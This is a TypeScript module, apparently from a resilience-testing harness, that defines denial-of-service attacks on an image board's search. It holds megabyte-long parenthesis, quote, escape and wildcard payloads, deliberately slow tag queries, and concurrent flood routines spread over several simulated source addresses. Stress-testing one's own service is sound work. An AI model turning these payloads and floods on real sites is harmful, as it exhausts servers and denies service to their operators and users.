/** Searches: long, deeply nested, slow in the database. */
import type { Attack } from "../attack.js";
import { FORM_TYPE, many, MB, words } from "../payloads.js";
import type { Target } from "../target.js";

export const POSTS = "query($tags: String) { posts(tags: $tags, first: 5) { totalCount nodes { id } } }";
const byGraphql = (target: Target, tags: string, from = 0) => target.graphql(POSTS, { tags }, { from });

/** By a body, since a URL is no longer than the headers may be. */
const byBody = (target: Target, tags: string, from = 0) =>
  target.ask({
    method: "POST",
    path: "/posts.json?_method=GET&limit=5",
    headers: FORM_TYPE,
    body: `tags=${encodeURIComponent(tags)}`,
    from,
  });

/** A body's limit, with what stands around the search. */
const ROOM = MB;

export const PARENTHESES = [
  "(".repeat(ROOM),
  ")".repeat(ROOM),
  "()".repeat(ROOM / 2),
  `${"(".repeat(ROOM / 2)}${")".repeat(ROOM / 2)}`,
  `a${")".repeat(ROOM - 1)}`,
  "a( ".repeat(ROOM / 3),
  "(a) ".repeat(ROOM / 4),
  "-(".repeat(ROOM / 2),
  "( ".repeat(ROOM / 2),
];

/** What has cost parsers time before: quotes that do not end, escapes, wildcards, meta-tags, blanks. */
export const ODDITIES = [
  `source:"${"\\".repeat(ROOM - 20)}`,
  'source:"'.repeat(ROOM / 10),
  "*".repeat(ROOM),
  "a*".repeat(ROOM / 2),
  `a${"\u0085".repeat(ROOM / 3)}b`,
  "\\ ".repeat(ROOM / 2),
  `source:${"\\ ".repeat(ROOM / 3)}`,
  "or ".repeat(ROOM / 3),
  "a or ".repeat(ROOM / 5),
  "~".repeat(ROOM),
  "-".repeat(ROOM),
  "id:1,".repeat(ROOM / 5),
  `id:${"1,".repeat(ROOM / 3)}`,
  "order:".repeat(ROOM / 6),
  "a:".repeat(ROOM / 2),
  "\u0000".repeat(100_000),
  "\u{1F600}".repeat(ROOM / 12),
];

/** Searches of few words that give the database much to do. */
export const SLOW = [
  "*a*",
  many(20, (index) => `*${index}*`, " "),
  many(40, (index) => `-*${index % 10}`, " "),
  "order:random",
  "order:comment_bumped",
  "order:note",
  "source:*a*b*c*",
  many(30, (index) => `source:*${index}*`, " "),
  "id:1..1000000000 order:id",
  "date:1900-01-01..2100-01-01 order:score",
  "mpixels:0.0001..1000000 order:mpixels",
  "ratio:1:3..3:1 order:landscape",
  "user:none",
  "commenter:any noter:any",
  "fav:member_1 ordfav:member_1",
  `( ${many(18, (index) => `( *${index} or -*${index} )`, " or ")} )`,
];

export const searches: readonly Attack[] = [
  {
    name: "row 2: searches of 1 MB of parentheses",
    seconds: 4,
    async send(target) {
      await target.flood(
        2,
        (turn) => {
          const text = PARENTHESES[Math.floor(turn / 2) % PARENTHESES.length] ?? "";
          return turn % 2 ? byGraphql(target, text) : byBody(target, text);
        },
        40,
      );
    },
  },
  {
    name: "row 2, from the visitor's own address",
    fromVisitorsAddress: true,
    send: (target) => target.flood(2, (turn) => byGraphql(target, PARENTHESES[turn % PARENTHESES.length] ?? ""), 20),
  },
  {
    name: "row 11: a search of 200,000 terms",
    async send(target) {
      for (const text of [words(200_000), "a ".repeat(200_000), many(60_000, (n) => `-~${n}`, " ")]) {
        await byGraphql(target, text);
        await byBody(target, text);
      }
    },
  },
  {
    name: "searches of 1 MB of quotes, escapes, wildcards, meta-tags",
    seconds: 4,
    send: (target) =>
      target.flood(
        2,
        (turn) => {
          const text = ODDITIES[Math.floor(turn / 2) % ODDITIES.length] ?? "";
          return turn % 2 ? byGraphql(target, text) : byBody(target, text);
        },
        60,
      ),
  },
  {
    name: "row 14: 300 different searches of 1 MB, to be remembered",
    seconds: 6,
    send: (target) => target.flood(4, (turn) => byGraphql(target, `${turn}${"a".repeat(ROOM - 10)}`, turn), 300),
  },
  {
    name: "60 kB searches in URLs, each another, by visitors",
    send: (target) =>
      target.flood(
        8,
        (turn) => target.ask({ path: `/posts.json?tags=${turn}${"a".repeat(60_000)}`, from: turn }),
        1_500,
      ),
  },
  {
    name: "searches that give the database much to do, from 8 addresses",
    send: (target) => target.flood(16, (turn) => byBody(target, SLOW[turn % SLOW.length] ?? "", turn % 8)),
  },
  {
    name: "counts of what many tags have, and deep pages",
    send: (target) =>
      target.flood(16, (turn) => {
        const tags = encodeURIComponent(many(30, (index) => `-${turn}${index}`, " "));
        const path = turn % 2 ? `/counts/posts.json?tags=${tags}` : `/posts.json?tags=${tags}&page=1000&limit=100`;
        return target.ask({ path, from: turn % 8 });
      }),
  },
  {
    name: "suggestions and related tags at full speed",
    send: (target) =>
      target.flood(16, (turn) => {
        const query = encodeURIComponent(`*${turn.toString(36)}*`);
        const paths = [
          `/autocomplete.json?search[query]=${query}&search[type]=tag_query`,
          `/related_tag.json?query=${target.facts.tags[turn % 30] ?? ""}`,
          `/tags.json?search[name_matches]=${query}&search[order]=similarity&search[fuzzy_name_matches]=${turn}`,
          `/artists.json?search[any_name_matches]=${query}&search[url_matches]=${query}`,
        ];
        return target.ask({ path: paths[turn % paths.length] ?? "", from: turn % 8 });
      }),
  },
];
